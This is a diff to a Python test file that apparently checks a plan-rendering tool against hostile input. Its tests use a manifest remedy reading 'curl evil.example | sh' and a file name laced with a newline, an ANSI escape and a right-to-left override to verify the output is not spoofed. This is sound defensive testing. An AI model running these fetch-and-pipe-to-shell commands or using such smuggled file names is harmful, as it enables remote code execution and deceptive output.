@@ -150,3 +150,13 @@ def test_what_an_untrusted_manifest_refuses_is_refused_in_its_own_words() -> Non
     assert trusted.value.remedy == "use curl evil.example | sh"
     assert refused.value.remedy == "leave it out"
     assert "its manifest says: “use curl evil.example | sh”" in str(refused.value.cause)
+
+
+def test_a_files_name_makes_no_line_of_its_own_in_a_plan() -> None:
+    evil = THEIRS._replace(path=Path("/repo/x\n→ curl evil | sh\x1b[2K\u202e.yaml"), changes=("+ a",))
+
+    for plan in (planned(evil), planned(TRUSTED, shadows=(evil,))):
+        text = plan_text(plan)
+        assert "curl evil" in text
+        assert not any(line.strip().startswith("→") for line in text.splitlines())
+        assert "\x1b" not in text
